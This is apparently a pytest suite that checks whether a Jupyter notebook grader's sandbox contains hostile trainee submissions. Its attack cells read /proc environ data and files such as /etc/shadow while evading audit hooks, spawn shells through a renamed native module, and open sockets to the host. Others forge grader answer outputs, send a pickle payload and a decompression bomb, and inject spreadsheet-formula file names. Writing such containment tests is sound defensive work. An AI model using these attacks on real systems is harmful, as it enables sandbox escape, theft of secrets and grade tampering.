"""A hostile cohort graded by the real `kit grade` path (grade_folder → sandboxed kernels → judge → gradebook).

Each submission is the metrics master with one attack added, written as a trainee who has read the kit's code
would write it. Every test asserts the exact outcome: the score of every question, the status and reason, that
the other trainees were untouched, that no process is left, and that no secret of the grader's reached any
output. The attacks print what they achieved as one `EVIDENCE {json}` line, read back from the executed
notebook. The whole cohort is graded once (one xdist group).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import threading
import uuid

import nbformat
import psutil
import pytest

from kit.grading.answers import TEXT_CHARS
from kit.grading.authoring import build_spec, read_master
from kit.grading.batch import grade_folder
from kit.grading.gradebook import Gradebook
from kit.grading.isolation import UID_RANGE
from kit.grading.results import output_name
from kit.grading.sandbox import Limits

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("hostile")]
EXERCISE = "metrics"
SECRET = f"kit-secret-{uuid.uuid4().hex}"
LIMITS = Limits(cell_timeout=20, notebook_timeout=300, memory=3 * 2**30)
SOCKETS = r"/tmp/kit-[a-z0-9_]{8}"  # kit.grading.sandbox.kernel_manager's sockets folders
FORM_OK = {"q1": 1.0, "q2": 1.0, "q3": 2.0, "q4": 2.0, "q5": 1.0, "q6": 2.0}  # full marks of the auto questions

EVIDENCE = '''
import json as _json, os as _os
evidence = {}
def attempt(name, action):
    try:
        evidence[name] = ["done", repr(action())[:300]]
    except BaseException as error:  # noqa
        evidence[name] = [type(error).__name__, str(error)[:300]]
'''


NO_CONTEXT = dict.fromkeys(("secret_file", "gradebook", "neighbour", "tcp_port", "udp_port", "unix_path", "abstract"),
                          "")  # for attacks() when only the names or the sources matter


def native_read(path_expression: str) -> str:
    """Source reading the file at ``path_expression`` with pyarrow's C++ file code (no Python audit event)."""
    return f"__import__('pyarrow').OSFile({path_expression}).read().decode('latin-1')"


def attacks(ctx: dict) -> dict[str, str]:
    """Trainee id → the attack cell (run after the q1 answer cell). ``ctx`` holds the host paths involved."""
    secret_file, gradebook, neighbour = ctx["secret_file"], ctx["gradebook"], ctx["neighbour"]
    return {
        # ---- the grader's secrets and files
        "proc_walk": f'''{EVIDENCE}
pids = sorted(int(p) for p in _os.listdir("/proc") if p.isdigit())
evidence["pids"] = ["done", pids]
evidence["status"] = ["done", open("/proc/self/status").read()]
for pid in pids:
    for what in ("environ", "cmdline"):
        attempt(f"{{pid}}/{{what}}", lambda: {native_read('f"/proc/{pid}/{what}"')})
print("EVIDENCE", _json.dumps(evidence))''',
        "system_files": f'''{EVIDENCE}
for path in ("/etc/ssh/sshd_config", "/etc/ssh/ssh_config", "/etc/shadow", "/etc/passwd", "/root/.bash_history",
             "/etc/hostname", {secret_file!r}, {gradebook!r}, {neighbour!r}):
    attempt(path, lambda: {native_read("path")})
print("EVIDENCE", _json.dumps(evidence))''',
        "environment": f'''{EVIDENCE}
evidence["env"] = ["done", dict(_os.environ)]
print("EVIDENCE", _json.dumps(evidence))''',
        # ---- processes that outlive grading
        "renamed_posixsubprocess": f'''{EVIDENCE}
import importlib.util, sys
folder = [p for p in sys.path if p.endswith("lib-dynload")][0]
so = [f for f in _os.listdir(folder) if f.startswith("_posixsubprocess")][0]
# the extension's init function is found by the last part of the name: "x._posixsubprocess" loads it too
loaded = []
def load():
    spec = importlib.util.spec_from_file_location("harmless._posixsubprocess", _os.path.join(folder, so))
    loaded.append(importlib.util.module_from_spec(spec))
    spec.loader.exec_module(loaded[0])
attempt("load", load)
mod = loaded[0] if loaded else None
r, w = _os.pipe()
attempt("fork_exec", lambda: mod.fork_exec(["/bin/sh", "-c", "sleep 600"], [b"/bin/sh"], True, (w,), None, None,
        -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None, False))
attempt("os_fork", lambda: _os.fork())
attempt("posix_spawn", lambda: _os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 600"], {{}}))
attempt("execv", lambda: _os.execv("/bin/sh", ["sh"]))
print("EVIDENCE", _json.dumps(evidence))''',
        "threads": f'''{EVIDENCE}
import threading
stop, started = threading.Event(), []
def spawn():
    for _ in range(1000):
        t = threading.Thread(target=stop.wait); t.start(); started.append(t)
attempt("spawn", spawn)
evidence["started"] = ["done", len(started)]
stop.set()
[t.join() for t in started]
print("EVIDENCE", _json.dumps(evidence))''',
        # ---- the grader's scheduling, signals, files it must delete
        "scheduler": f'''{EVIDENCE}
# the same priority again: permission is checked all the same, and the kernel does not slow itself down
attempt("pgrp", lambda: _os.setpriority(_os.PRIO_PGRP, 0, 0))
attempt("init", lambda: _os.setpriority(_os.PRIO_PROCESS, 1, 0))
attempt("idle", lambda: _os.sched_setscheduler(1, _os.SCHED_IDLE, _os.sched_param(0)))
attempt("kill_all", lambda: [_os.kill(pid, 9) for pid in range(1, 64) if pid != _os.getpid()])
print("EVIDENCE", _json.dumps(evidence))''',
        "immutable": f'''{EVIDENCE}
import fcntl, struct
open("keep.txt", "w").write("x")
fd = _os.open("keep.txt", _os.O_RDONLY)
attempt("ioctl", lambda: fcntl.ioctl(fd, 0x40086602, struct.pack("i", 0x10)))  # FS_IOC_SETFLAGS immutable
attempt("xattr", lambda: _os.setxattr("keep.txt", "trusted.kit", b"x"))
print("EVIDENCE", _json.dumps(evidence))''',
        "disk": f'''{EVIDENCE}
written = []
def fill():
    for i in range(40):
        with open(f"blob{{i}}", "wb") as fh:
            fh.write(b"x" * 2**26)
        written.append(i)
attempt("fill", fill)
evidence["files"] = ["done", len(written)]
attempt("tmp", lambda: {"__import__('pyarrow').OSFile('/tmp/kit-escape', 'w').write(b'x')"})
attempt("shm", lambda: {"__import__('pyarrow').OSFile('/dev/shm/kit', 'w').write(b'x' * 2**24)"})
print("EVIDENCE", _json.dumps(evidence))''',
        "descriptors": f'''{EVIDENCE}
fds = []
def grab():
    while True:
        fds.append(_os.open("/dev/null", _os.O_RDONLY))
attempt("fds", grab)
evidence["count"] = ["done", len(fds)]
[_os.close(fd) for fd in fds]
print("EVIDENCE", _json.dumps(evidence))''',
        "session": f'''{EVIDENCE}
import signal
attempt("setsid", _os.setsid)
attempt("setpgid", lambda: _os.setpgid(0, 0))
attempt("mkfifo", lambda: _os.mkfifo("pipe"))
attempt("proc_mem", lambda: {native_read('"/proc/1/mem"')})
attempt("init_environ", lambda: {native_read('"/proc/1/environ"')})
attempt("signal_init", lambda: _os.kill(1, signal.SIGKILL))
print("EVIDENCE", _json.dumps(evidence))''',
        "sockets_folder": f'''{EVIDENCE}
from ipykernel.kernelapp import IPKernelApp
folder = _os.path.dirname(IPKernelApp.instance().connection_file)
evidence["folder"] = ["done", folder]
attempt("listing", lambda: sorted(_os.listdir(folder)))
attempt("key", lambda: _json.load(open(IPKernelApp.instance().connection_file))["key"] != "")
attempt("modes", lambda: [oct(_os.stat(p).st_mode) for p in (folder, IPKernelApp.instance().connection_file)])
attempt("file", lambda: __import__("pyarrow").OSFile(folder + "/big", "w").write(b"x" * 1000))
attempt("fill", lambda: [_os.mkdir(folder + f"/d{{i}}") for i in range(10)])
print("EVIDENCE", _json.dumps(evidence))''',
        # ---- the network and the grader's sockets
        "network": f'''{EVIDENCE}
import socket, time, zmq
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {ctx["tcp_port"]}), timeout=2))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", ("127.0.0.1", {ctx["udp_port"]})))
attempt("tcp6", lambda: socket.socket(socket.AF_INET6).connect(("::1", {ctx["tcp_port"]})))
attempt("unix", lambda: socket.socket(socket.AF_UNIX).connect({ctx["unix_path"]!r}))
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + {ctx["abstract"]!r}))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)))
attempt("interfaces", socket.if_nameindex)  # glibc asks the kernel over netlink, without a Python audit event
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))  # ETH_P_ALL, raw frames
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 9999)))  # the VM's host
context = zmq.Context()
for name, url in (("zmq_tcp", "tcp://127.0.0.1:{ctx["tcp_port"]}"), ("zmq_tcp6", "tcp://[::1]:{ctx["tcp_port"]}"),
                  ("zmq_ipc", "ipc://{ctx["unix_path"]}"), ("zmq_abstract", "ipc://@{ctx["abstract"]}")):
    def push(url=url):  # native connects, no audit event; IMMEDIATE: a message waits for a connection, if any
        s = context.socket(zmq.PUSH); s.setsockopt(zmq.IMMEDIATE, 1); s.setsockopt(zmq.IPV6, 1); s.connect(url)
        time.sleep(1)
        s.send(_os.environ.get("HOME", "").encode(), zmq.NOBLOCK)
    attempt(name, push)
time.sleep(2)
print("EVIDENCE", _json.dumps(evidence))''',
        # ---- forging the answers channel
        "forge_publish": '''
import kit.grading.answers as A
plan = {"margin": 0.05, "confidence": 0.95, "population": 123457}
q5 = kit.metrics.sample_size(0.05, 0.95, population=123457)
_publish = A.publish
def publish(namespace, names, *args, **kwargs):
    _publish(namespace, [*names, "survey", "plan", "kit", "expect"], *args, **kwargs)
A.publish = publish''',
        "forge_hook": '''
from IPython.display import display
import kit.grading.answers as A
fake_plan = {"margin": 0.05, "confidence": 0.95, "population": 123457}
q5_fake = kit.metrics.sample_size(0.05, 0.95, population=123457)
def hook(result):
    display({A.MIME: {"plan": {"json": fake_plan}, "q5": {"json": q5_fake}, "expect": {"json": 1}}}, raw=True)
get_ipython().events.register("post_run_cell", hook)''',
        "forge_own_cell": '''
from IPython.display import display
import kit.grading.answers as A
q1 = 0.0
display({A.MIME: {"q1": A.encode(round(kit.metrics.nps(survey["nps"]).value, 1))}}, raw=True)''',
        "forge_update": '''
from IPython.display import display, update_display
import kit.grading.answers as A
def hook(result):
    display({"text/plain": "ok"}, raw=True, display_id="kit-forge")
get_ipython().events.register("post_run_cell", hook)
update_display({A.MIME: {"q1": {"json": 1e9}}}, raw=True, display_id="kit-forge")''',
        "forge_pickle": '''
from IPython.display import display
import kit.grading.answers as A
def hook(result):
    display({A.MIME: {"q6": {"pickle": "gASVDQAAAAAAAACMAm9zlIwGc3lzdGVtlJOULg=="}}}, raw=True)
get_ipython().events.register("post_run_cell", hook)''',
        # ---- answers that would flood or poison the grader
        "huge_output": 'print("x" * 100_000_000)',
        "sleep_forever": "import time\ntime.sleep(10**6)",
        "memory_hog": "hog = bytearray(10 * 2**30)",
        "deep_message": '''
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "display_data", content=b"[" * 200_000 + b"]" * 200_000,
                    parent=kernel.get_parent("shell"), ident=b"display_data")''',
        "background_thread": '''
import threading, time
from IPython.display import display
import kit.grading.answers as A
def pester():
    while True:
        display({A.MIME: {"plan": {"json": {"margin": 0.05}}}}, raw=True)
        print("still here")
        time.sleep(0.05)
threading.Thread(target=pester, daemon=True).start()''',
        "parquet_bomb": '''
import base64, io as _io, pyarrow as pa, pyarrow.parquet as pq
from IPython.display import display
import kit.grading.answers as A
_buffer = _io.BytesIO()
pq.write_table(pa.table({"channel": pa.array(np.zeros(50_000_000, dtype="int8"))}), _buffer, compression="zstd")
bomb = {"frame": {"parquet_b64": base64.b64encode(_buffer.getvalue()).decode(), "series": False}}
print("BOMB", len(bomb["frame"]["parquet_b64"]))
def hook(result):
    display({A.MIME: {"q4": bomb}}, raw=True)
get_ipython().events.register("post_run_cell", hook)''',
        # ---- who is being graded
        "impersonate": 'trainee_id = "good"\nex = Exercise("metrics", "good", seed, lang)',
    }


ANSWERS = {  # trainee id → answer cells replaced
    "huge_answer": {"q3": 'q3 = "x" * 19_000_000', "q7": "长" * (TEXT_CHARS + 1_000)},  # kernel export; Markdown
    "odd_dtype": {"q4": 'q4 = pd.DataFrame({"channel": [[1, 2]] * 5, "n": [{"a": 1}] * 5, "value": [1.0] * 5})'},
    "forge_own_cell": {"q1": "q1 = 0.0"},
    "forged_metadata": {"q1": "q1 = 0.0"},
    "bob smith": {"q1": "q1 = 0.0"},
}


def build(attack: str | None = None, *, answers: dict | None = None, cells: int = 1,
          before_parameters: str | None = None):
    """The master with ``attack`` in ``cells`` cells after the q1 answer cell and ``answers`` replaced."""
    nb = read_master(EXERCISE)
    for cell in nb.cells:
        qid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if qid in (answers or {}):
            cell.source = answers[qid]
    index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "q1")
    for _ in range(cells if attack is not None else 0):
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(attack))
    if before_parameters is not None:
        nb.cells.insert(0, nbformat.v4.new_code_cell(before_parameters))
    return nb


@pytest.fixture(scope="module")
def listeners():
    """A TCP, a UDP, a unix and an abstract unix listener on the host, counting what reaches them."""
    received: list[str] = []
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    unix_path = f"/tmp/kit-hostile-{uuid.uuid4().hex[:8]}.sock"
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(unix_path)
    unix.listen()
    abstract_name = f"kit-hostile-{uuid.uuid4().hex[:8]}"
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0" + abstract_name)
    abstract.listen()
    stop = threading.Event()

    def serve(sock, kind):
        sock.settimeout(0.2)
        while not stop.is_set():
            try:
                if kind == "udp":
                    received.append(f"udp:{sock.recv(100)!r}")
                else:
                    sock.accept()[0].close()
                    received.append(kind)
            except OSError:
                continue

    threads = [threading.Thread(target=serve, args=(s, k), daemon=True)
               for s, k in ((tcp, "tcp"), (udp, "udp"), (unix, "unix"), (abstract, "abstract"))]
    for thread in threads:
        thread.start()
    yield {"tcp_port": tcp.getsockname()[1], "udp_port": udp.getsockname()[1], "unix_path": unix_path,
           "abstract": abstract_name, "received": received}
    stop.set()
    for thread in threads:
        thread.join()
    for sock in (tcp, udp, unix, abstract):
        sock.close()
    os.remove(unix_path)


@pytest.fixture(scope="module")
def cohort(tmp_path_factory, listeners):
    """The hostile cohort graded once; the grader's environment holds a secret, its temp folder is private."""
    root = tmp_path_factory.mktemp("hostile")
    folder, tmp = root / "submitted", root / "tmp"
    folder.mkdir()
    tmp.mkdir()
    secret_file = root / "secret.txt"
    secret_file.write_text(SECRET)
    secret_file.chmod(0o644)
    gradebook = root / "gb.sqlite"
    ctx = {**listeners, "secret_file": str(secret_file), "gradebook": str(gradebook),
           "neighbour": str(folder / "good.ipynb")}
    subs = {name: build(source, answers=ANSWERS.get(name)) for name, source in attacks(ctx).items()}
    subs.update({name: build(answers=answers) for name, answers in ANSWERS.items() if name not in subs})
    subs["good"] = build()
    subs["bob_smith"] = build()
    subs["many_outputs"] = build('print("y" * 190_000)', cells=40)
    subs["impersonate"] = build(attacks(ctx)["impersonate"], before_parameters='trainee_id = "good"')
    forged = subs["forged_metadata"]
    fake = nbformat.v4.new_code_cell("pass", metadata={"kit": {"injected": True, "exports": ["q1"]}})
    fake.outputs = [nbformat.v4.new_output("display_data", data={"application/vnd.kit.answers+json":
                                                                  {"q1": {"json": 8.1}}})]
    forged.cells.insert(6, fake)
    forged.metadata["kit"] = {"trainee": "good"}
    for trainee, nb in subs.items():
        nbformat.write(nb, folder / f"{trainee}.ipynb")
    (folder / "bad_count.ipynb").write_text(
        nbformat.writes(build()).replace('"execution_count": null', '"execution_count": "[/bold]"', 1))
    (folder / "=1+2.ipynb").write_text(nbformat.writes(build()))
    (folder / "twice.ipynb").write_text(nbformat.writes(build()))
    (folder / "twice").mkdir()
    (folder / "twice" / f"{EXERCISE}.ipynb").write_text(nbformat.writes(build()))
    (folder / "deep.ipynb").write_text('{"cells": [], "metadata": ' + "[" * 100_000 + "]" * 100_000 + "}")

    nice_before = os.getpriority(os.PRIO_PROCESS, 0)
    sockets, stop = set(), threading.Event()
    watcher = threading.Thread(target=watch_sockets, args=(str(tmp), stop, sockets), daemon=True)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("KIT_HOSTILE_SECRET", SECRET)
        patch.setenv("DATABASE_URL", f"postgresql://grader:{SECRET}@db.internal/grades")
        patch.setenv("TMPDIR", str(tmp))  # the workers' (and so the kernels') folders, to find leftovers
        book = Gradebook(f"sqlite:///{gradebook}")
        watcher.start()
        try:
            summary = grade_folder(build_spec(EXERCISE, read_master(EXERCISE)), folder, book, out=root / "graded",
                                   lang="en", limits=LIMITS, progress=False)
        finally:
            stop.set()
            watcher.join()
    yield {"root": root, "tmp": tmp, "book": book, "summary": summary, "nice_before": nice_before,
           "grades": book.grades(EXERCISE).set_index(["trainee", "question"]), "received": listeners["received"],
           "submissions": book.submissions(EXERCISE).set_index("trainee"), "sockets": sockets}
    book.close()


def watch_sockets(tmp: str, stop: threading.Event, seen: set[str]) -> None:
    """Collect the sockets folders (in /tmp) of this cohort's kernels: their command line also names ``tmp``. A
    kernel started in its sandbox names it after ``--sockets``; one forked warm into it keeps the factory's command
    line, so the folder is read from its sandbox's bubblewrap command (the one folder bound writable)."""
    while not stop.wait(0.2):
        for process in psutil.process_iter(["cmdline"]):
            args = process.info["cmdline"] or []
            if not any(tmp in arg for arg in args):
                continue
            if "--sockets" in args[:-1]:
                seen.add(args[args.index("--sockets") + 1])
            elif args and args[0].endswith("bwrap") and "--bind" in args[:-1]:
                seen.add(args[args.index("--bind") + 1])


def scores(cohort, trainee: str) -> dict[str, float]:
    rows = cohort["grades"].loc[trainee]
    return rows.loc[rows["kind"] == "auto", "auto_score"].to_dict()


def reason(cohort, trainee: str, qid: str) -> str:
    return cohort["grades"].loc[(trainee, qid), "reason"]


def executed(cohort, trainee: str) -> str:
    return (cohort["root"] / "graded" / f"{output_name(trainee)}.ipynb").read_text(encoding="utf-8")


def printed(cohort, trainee: str, marker: str) -> str:
    """The rest of the first line the trainee's notebook printed starting with ``marker``."""
    nb = nbformat.reads(executed(cohort, trainee), as_version=4)
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            for line in str(output.get("text", "")).splitlines():
                if line.startswith(marker):
                    return line[len(marker):]
    raise AssertionError(f"{trainee} printed no {marker!r}")


def attack_errors(cohort, trainee: str) -> list[str]:
    """The names of the errors raised by the trainee's attack cell(s)."""
    source = attacks(NO_CONTEXT)[trainee]
    nb = nbformat.reads(executed(cohort, trainee), as_version=4)
    return [output["ename"] for cell in nb.cells if cell.source == source for output in cell.get("outputs", [])
            if output.get("output_type") == "error"]


def evidence(cohort, trainee: str) -> dict:
    return json.loads(printed(cohort, trainee, "EVIDENCE "))


# ------------------------------------------------------------------------------------------ the whole cohort


def test_every_submission_is_recorded_and_the_batch_finished(cohort):
    summary = cohort["summary"]
    assert summary.errors == []
    recorded = set(cohort["submissions"].index)
    expected = set(attacks(NO_CONTEXT))
    expected |= {*ANSWERS, "good", "bob_smith", "many_outputs", "bad_count", "=1+2", "twice", "deep"}
    assert recorded == expected


def test_the_honest_trainee_is_untouched(cohort):
    assert scores(cohort, "good") == FORM_OK
    assert cohort["submissions"].loc["good", "reason"] == ""


@pytest.mark.parametrize("trainee", ["proc_walk", "system_files", "environment", "renamed_posixsubprocess",
                                     "threads", "scheduler", "immutable", "disk", "network", "many_outputs",
                                     "impersonate", "forge_update", "descriptors", "session", "sockets_folder",
                                     "sleep_forever", "memory_hog", "background_thread"])
def test_a_contained_attack_costs_nothing_and_changes_nothing(cohort, trainee):
    assert scores(cohort, trainee) == FORM_OK
    assert cohort["submissions"].loc[trainee, "status"] == "graded"


@pytest.mark.parametrize(("trainee", "error"), [("sleep_forever", "KeyboardInterrupt"), ("memory_hog", "MemoryError")])
def test_a_cell_stopped_by_a_limit_is_the_trainees_error_not_a_fault(cohort, trainee, error):
    row = cohort["submissions"].loc[trainee]
    assert (row["status"], row["reason"]) == ("graded", "")  # the notebook went on: no fault, every answer counts
    assert scores(cohort, trainee) == FORM_OK
    assert attack_errors(cohort, trainee) == [error]  # the cell timeout interrupted it / the memory limit held


def test_no_secret_reaches_any_output(cohort):
    root = cohort["root"]
    texts = [p.read_text(encoding="utf-8", errors="replace") for p in (root / "graded").rglob("*") if p.is_file()]
    texts += [cohort["grades"].to_csv(), cohort["submissions"].to_csv()]
    assert texts and not any(SECRET in text for text in texts)


def test_no_process_is_left_and_the_grader_was_not_reniced(cohort):
    tmp = str(cohort["tmp"])
    left = []
    for process in psutil.process_iter(["cmdline", "uids"]):
        cmdline = " ".join(process.info["cmdline"] or [])
        uid = process.info["uids"].real if process.info["uids"] else 0
        if tmp in cmdline or UID_RANGE[0] <= uid < UID_RANGE[1] and "sleep 600" in cmdline:
            left.append((process.pid, cmdline[:200]))
    assert left == []
    assert os.getpriority(os.PRIO_PROCESS, 0) == cohort["nice_before"]
    assert list(cohort["tmp"].iterdir()) == []  # every grading folder was removed
    sockets = cohort["sockets"]  # and every sockets folder in /tmp seen on a kernel's command line
    assert len(sockets) >= len(cohort["submissions"]) // 2 and all(re.fullmatch(SOCKETS, p) for p in sockets), sockets
    assert [path for path in sockets if os.path.lexists(path)] == []
    assert not set(cohort["summary"].cleanup) & set(cohort["submissions"].index)


# ------------------------------------------------------------------------------------------ secrets and files


def test_the_kernel_sees_only_its_own_processes(cohort):
    found = evidence(cohort, "proc_walk")
    # bubblewrap's init and the kernel, in a PID namespace of their own; a kernel forked warm into the sandbox
    # (the grader is root: kit.pipeline.forkserver) also sees the placeholder that held the sandbox open
    assert found["pids"][1] == ([1, 2, 3] if os.geteuid() == 0 else [1, 2])
    for key, (_outcome, text) in found.items():
        if key not in ("pids", "status"):
            assert SECRET not in text, key


def test_system_and_grader_files_are_not_there(cohort):
    found = evidence(cohort, "system_files")
    for path, (outcome, text) in found.items():
        assert SECRET not in text
        # not there (mount namespace) or refused (Landlock): either way nothing was read
        assert outcome in ("FileNotFoundError", "PermissionError"), (path, outcome, text)


def test_the_environment_is_an_allow_list(cohort):
    env = evidence(cohort, "environment")["env"][1]
    assert SECRET not in json.dumps(env)
    assert not {"KIT_HOSTILE_SECRET", "DATABASE_URL", "JPY_PARENT_PID", "KIT_GRADEBOOK"} & set(env)
    assert env["HOME"].endswith("/home")


# ------------------------------------------------------------------------------------------------ processes


def test_no_process_can_be_started_even_with_a_renamed_native_module(cohort):
    found = evidence(cohort, "renamed_posixsubprocess")
    assert found["load"] == ["PermissionError", "Importing harmless._posixsubprocess is not allowed while grading."]
    assert found["fork_exec"][0] == "AttributeError"  # nothing was loaded to call; native fork: test_seccomp.py
    assert found["os_fork"][0] == found["posix_spawn"][0] == found["execv"][0] == "PermissionError"


def test_threads_are_capped_per_kernel(cohort):
    found = evidence(cohort, "threads")
    assert found["spawn"][0] == "RuntimeError" and found["started"][1] < LIMITS.processes


def test_scheduling_and_signals_reach_only_the_kernel_itself(cohort):
    found = evidence(cohort, "scheduler")
    # its process group is the one the kernel manager made for bubblewrap, whose outer process is root's
    assert found["pgrp"] == ["PermissionError", "[Errno 1] Operation not permitted"]
    assert found["init"][0] == found["idle"][0] == "PermissionError"  # bubblewrap's init runs as root
    assert found["kill_all"][0] == "PermissionError"


def test_files_cannot_be_made_immutable_and_cleanup_is_complete(cohort):
    found = evidence(cohort, "immutable")
    assert found["ioctl"][0] in ("PermissionError", "OSError")
    assert found["xattr"][0] == "PermissionError"


def test_sessions_fifos_and_other_processes_memory_are_refused_by_the_kernel(cohort):
    found = evidence(cohort, "session")
    assert found["setsid"][0] == found["setpgid"][0] == found["mkfifo"][0] == "PermissionError"  # seccomp
    assert found["proc_mem"][0] == found["init_environ"][0] == "PermissionError"  # root's init, another uid
    assert found["signal_init"][0] == "PermissionError"


def test_the_socket_folder_takes_no_files(cohort):
    found = evidence(cohort, "sockets_folder")
    # the guard hides even the kernel's own connection file (ipykernel read it before the guard was installed)
    assert found["listing"][0] == found["key"][0] == "PermissionError"
    # the folder 0700 (with the sticky bit jupyter_client sets) and the connection file 0600: others cannot read
    assert found["modes"] == ["done", "['0o41700', '0o100600']"]
    assert found["file"][0] == "PermissionError" and found["fill"][0] == "PermissionError"  # Landlock, the guard


def test_descriptors_are_capped(cohort):
    found = evidence(cohort, "descriptors")
    assert found["fds"][0] == "OSError" and "Too many open files" in found["fds"][1]
    assert found["count"][1] < LIMITS.open_files


def test_disk_writes_are_capped_in_total(cohort):
    found = evidence(cohort, "disk")
    assert found["fill"][0] == "OSError" and "No space left" in found["fill"][1]
    assert found["files"][1] <= LIMITS.disk // 2**26
    assert found["tmp"][0] in ("PermissionError", "OSError")
    assert found["shm"][0] in ("PermissionError", "OSError")


def test_no_network_and_no_socket_of_the_host(cohort):
    found = evidence(cohort, "network")
    refused = "Network access (socket.{}) is not allowed while grading."
    for key, event in (("tcp", "getaddrinfo"), ("udp", "sendto"), ("tcp6", "connect"), ("unix", "connect"),
                       ("abstract", "connect"), ("netlink", "bind")):  # the guard, first
        assert found[key] == ["PermissionError", refused.format(event)], key
    assert found["interfaces"] == ["done", "[(1, 'lo')]"]  # unaudited netlink: its own namespace, a loopback only
    # seccomp lets the kernel create only unix, inet, inet6 and netlink sockets: raw packets and vsock (a virtual
    # machine's host) are refused at creation, whatever the Python guard does
    for key in ("packet", "vsock"):
        assert found[key] == ["OSError", "[Errno 97] Address family not supported by protocol"], key
    for key in ("zmq_tcp", "zmq_tcp6", "zmq_ipc", "zmq_abstract"):  # native: no connection was ever made
        assert found[key] == ["Again", "Resource temporarily unavailable"], key
    assert cohort["received"] == []


# ------------------------------------------------------------------------------------------- the answers channel


def test_a_patched_export_cannot_shadow_the_graders_data(cohort):
    assert scores(cohort, "forge_publish") == {**FORM_OK, "q5": 0.0}
    notes = cohort["submissions"].loc["forge_publish", "reason"]
    assert 'An export of "survey" was ignored' in notes and '"plan"' in notes


def test_a_display_hook_cannot_shadow_the_graders_data(cohort):
    assert scores(cohort, "forge_hook") == {**FORM_OK, "q5": 0.0}  # q5 from the hook is its own (wrong) answer
    assert reason(cohort, "forge_hook", "q5").startswith("✗ Expected")
    assert cohort["submissions"].loc["forge_hook", "reason"] == (
        "An answers output that the grader did not inject was ignored (only the grader's own export cells count). "
        'An export of "plan" was ignored: it is not a question of this exercise. '
        'An export of "q5" outside its own export cell was ignored. '
        'An export of "expect" was ignored: it is not a question of this exercise.')


def test_answers_displayed_outside_the_export_cells_count_for_nothing(cohort):
    assert scores(cohort, "forge_own_cell") == {**FORM_OK, "q1": 0.0}
    assert "did not inject was ignored" in cohort["submissions"].loc["forge_own_cell", "reason"]
    assert scores(cohort, "forged_metadata") == {**FORM_OK, "q1": 0.0}


def test_a_pickled_answer_is_refused_not_loaded(cohort):
    assert scores(cohort, "forge_pickle") == {**FORM_OK, "q6": 0.0}
    assert cohort["submissions"].loc["forge_pickle", "reason"].endswith("The answer q6 was not accepted (malformed).")
    assert reason(cohort, "forge_pickle", "q6").startswith("✗ Your answer was not accepted: it is not in a form")


def test_a_huge_answer_is_refused_and_the_executed_notebook_stays_small(cohort):
    assert scores(cohort, "huge_answer") == {**FORM_OK, "q3": 0.0}
    for qid in ("q3", "q7"):  # exported by the kernel, or written in the Markdown answer cell
        assert reason(cohort, "huge_answer", qid).startswith("✗ Your answer was not accepted: it is too large"), qid
    assert len(executed(cohort, "huge_answer")) < 2_000_000


def test_a_decompression_bomb_is_refused_from_its_metadata(cohort):
    size = int(printed(cohort, "parquet_bomb", "BOMB "))
    assert size < 1_000_000  # under a megabyte on the wire, 50 million rows once read
    assert scores(cohort, "parquet_bomb") == {**FORM_OK, "q4": 0.0}
    assert reason(cohort, "parquet_bomb", "q4") == \
        "✗ Your answer was not accepted: the table has too many rows (50000000 > 100000)."


def test_a_message_nested_too_deeply_for_the_grader_stops_only_that_notebook(cohort):
    row = cohort["submissions"].loc["deep_message"]
    assert row["status"] == "graded"
    assert row["reason"].startswith("The notebook could not be executed to the end: RecursionError: maximum recursion")
    assert scores(cohort, "deep_message") == {"q1": 1.0, "q2": 0.0, "q3": 0.0, "q4": 0.0, "q5": 0.0, "q6": 0.0}
    assert reason(cohort, "deep_message", "q2").startswith("✗ No answer for q2: the notebook stopped before")


def test_hostile_column_types_are_refused(cohort):
    assert scores(cohort, "odd_dtype") == {**FORM_OK, "q4": 0.0}
    assert "columns of types the grader does not read" in reason(cohort, "odd_dtype", "q4")


def test_an_output_too_large_for_the_grader_stops_only_that_notebook(cohort):
    assert scores(cohort, "huge_output") == {"q1": 1.0, "q2": 0.0, "q3": 0.0, "q4": 0.0, "q5": 0.0, "q6": 0.0}
    assert "sent an output larger than the grader takes (64 MiB)" in cohort["submissions"].loc["huge_output", "reason"]


def test_outputs_are_capped_for_the_whole_notebook(cohort):
    text = executed(cohort, "many_outputs")
    assert len(text) < LIMITS.notebook_chars + 2_000_000
    assert "output truncated" in text


# ------------------------------------------------------------------------------------------- who is graded


def test_the_trainee_id_comes_from_the_file_name_only(cohort):
    assert scores(cohort, "impersonate") == FORM_OK  # graded on their own data: the injected id wins
    assert "forged_metadata" in cohort["submissions"].index and "good" in cohort["submissions"].index


def test_similar_names_get_their_own_files(cohort):
    files = cohort["submissions"].loc[["bob smith", "bob_smith"], "file_name"]
    assert files.nunique() == 2
    assert scores(cohort, "bob smith") == {**FORM_OK, "q1": 0.0} and scores(cohort, "bob_smith") == FORM_OK
    assert cohort["submissions"].loc[["bob smith", "bob_smith"], ["status", "reason"]].values.tolist() == \
        [["graded", ""], ["graded", ""]]
    assert reason(cohort, "bob smith", "q1").endswith("your answer 0 is too low.")


def test_a_duplicate_is_failed_with_its_files_named_and_the_batch_goes_on(cohort):
    row = cohort["submissions"].loc["twice"]
    assert row["status"] == "failed"
    assert "twice.ipynb" in row["reason"] and f"twice/{EXERCISE}.ipynb" in row["reason"]


